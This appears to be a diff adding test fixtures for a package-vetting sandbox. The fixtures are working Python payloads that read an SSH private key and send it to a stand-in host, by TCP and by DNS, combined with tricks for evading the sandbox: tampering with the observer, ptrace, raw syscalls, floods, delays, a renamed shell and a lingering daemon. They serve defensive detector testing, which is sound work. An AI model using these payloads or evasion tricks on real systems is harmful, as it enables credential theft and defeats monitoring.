@@ -1,0 +1,183 @@
+"""Inert fixtures for the sandbox's observation: each one evasion, then the theft.
+
+The theft reads the planted `~/.ssh/id_rsa` and sends it to `exfil.pkgvet-test.invalid`
+(RFC 6761: never resolves outside the sandbox, where the sink records it). Each evasion is the
+cheapest version of a trick that blinded, fooled or outwaited the first sandbox: tampering with
+the observer, a system call nobody traced, a flood, a datagram with no connect, a long sleep, a
+renamed shell, a daemon left running. Only ever installed inside the sandbox container.
+"""
+
+from __future__ import annotations
+
+THEFT = '''
+import os as _os
+import socket as _socket
+
+
+def _theft(blob=None):
+    if blob is None:
+        try:
+            with open(_os.path.expanduser("~/.ssh/id_rsa")) as fh:
+                blob = fh.read()
+        except OSError:
+            blob = ""
+    try:
+        with _socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
+            conn.sendall(blob[:400].encode())
+    except OSError:
+        pass
+'''
+
+TAMPER_REPORT_CHANNEL = THEFT + '''
+for _path in ("/proc/1/fd/1", "/proc/self/../1/fd/1"):
+    try:
+        _fd = _os.open(_path, _os.O_WRONLY)
+        _os.write(_fd, b'{"type": "done", "events": ')  # a partial line swallows the next one
+        _os.close(_fd)
+    except OSError:
+        pass
+_theft()
+'''
+
+TAMPER_TRACE_PIPE = THEFT + '''
+for _fd in range(3, 256):  # whatever descriptor the observer may have left open
+    try:
+        _os.write(_fd, b'4242 openat(AT_FDCWD, "/x", O_RDONLY')
+    except OSError:
+        pass
+for _name in _os.listdir("/tmp"):  # the observer's own folder, if it can be entered
+    for _inner in ("journal", "trace", "fifo"):
+        try:
+            with open(_os.path.join("/tmp", _name, _inner), "w") as _fh:
+                _fh.write("4242 openat(")
+        except OSError:
+            pass
+try:
+    _os.listdir("/proc/1/fd")
+except OSError:
+    pass
+_theft()
+'''
+
+PTRACE_PID1 = THEFT + '''
+import ctypes as _ctypes
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.ptrace(0x4206, 1, 0, 0)  # PTRACE_SEIZE the observer
+_theft()
+'''
+
+OPENAT2_READ = THEFT + '''
+import ctypes as _ctypes
+import struct as _struct
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = _ctypes.c_long
+_how = _ctypes.create_string_buffer(_struct.pack("QQQ", _os.O_RDONLY, 0, 0), 24)
+_path = _os.path.expanduser("~/.ssh/id_rsa").encode()
+_fd = _libc.syscall(437, _ctypes.c_int(-100), _ctypes.c_char_p(_path), _how, _ctypes.c_size_t(24))
+_blob = ""
+if _fd >= 0:
+    _blob = _os.read(_fd, 8192).decode()
+    _os.close(_fd)
+_theft(_blob)
+'''
+
+EVENT_FLOOD = THEFT + '''
+_cache = _os.path.expanduser("~/.config/lint-cache")
+for _i in range(20500):
+    try:
+        open("%s/%d.json" % (_cache, _i))
+    except OSError:
+        pass
+_theft()
+'''
+
+SENDTO_DNS = THEFT + '''
+import struct as _struct
+
+
+def _query(name):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    return _struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
+
+
+try:
+    with open(_os.path.expanduser("~/.ssh/id_rsa")) as _fh:
+        _secret = _fh.read().splitlines()[1][:24]
+except (OSError, IndexError):
+    _secret = "none"
+_name = _secret.encode().hex() + ".exfil.pkgvet-test.invalid"
+for _server in (("127.0.0.1", 53), ("192.0.2.53", 53)):
+    _sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+    try:
+        _sock.sendto(_query(_name), _server)  # no connect: one datagram
+    except OSError:
+        pass
+    _sock.close()
+'''
+
+LONG_SLEEP = THEFT + '''
+import time as _time
+
+_time.sleep(200)
+_theft()
+'''
+
+RENAMED_SHELL = THEFT + '''
+import shutil as _shutil
+import subprocess as _subprocess
+import tempfile as _tempfile
+
+_folder = _tempfile.mkdtemp()
+_shutil.copy("/bin/sh", _folder + "/gcc")
+_os.chmod(_folder + "/gcc", 0o755)
+_subprocess.run([_folder + "/gcc", "-c", "read x < $HOME/.ssh/id_rsa"], check=False)
+_theft()
+'''
+
+DAEMON_LEFT = '''
+import os as _os
+import time as _time
+
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _null = _os.open("/dev/null", _os.O_RDWR)
+        for _fd in (0, 1, 2):
+            _os.dup2(_null, _fd)
+        _time.sleep(300)
+    _os._exit(0)
+'''
+
+SANDBOX_EVASIONS = {
+    # name: (payload, rules the sandbox alone must report)
+    "tamper-report-channel": (TAMPER_REPORT_CHANNEL, {"PV817", "PV801", "PV803"}),
+    "tamper-trace-pipe": (TAMPER_TRACE_PIPE, {"PV817", "PV801", "PV803"}),
+    "ptrace-pid1": (PTRACE_PID1, {"PV817", "PV801", "PV803"}),
+    "openat2-read": (OPENAT2_READ, {"PV821", "PV806"}),
+    "event-flood": (EVENT_FLOOD, {"PV801", "PV803"}),
+    "sendto-dns": (SENDTO_DNS, {"PV806", "PV803"}),
+    "renamed-shell": (RENAMED_SHELL, {"PV825", "PV804", "PV801"}),
+    "daemon-left-running": (DAEMON_LEFT, {"PV814"}),
+}
+
+OUTPUT_FLOOD = '''
+import sys as _sys
+
+_chunk = "x" * (1 << 20) + "\\n"
+for _ in range(300):  # 300 MiB on standard output, at import time
+    _sys.stdout.write(_chunk)
+_sys.stdout.flush()
+'''
+
+DISK_FILL = '''
+_block = b"\\0" * (1 << 22)
+try:
+    with open("/tmp/.fill", "wb") as _fh:
+        for _ in range(4096):
+            _fh.write(_block)
+            _fh.flush()
+except OSError:
+    pass
+'''
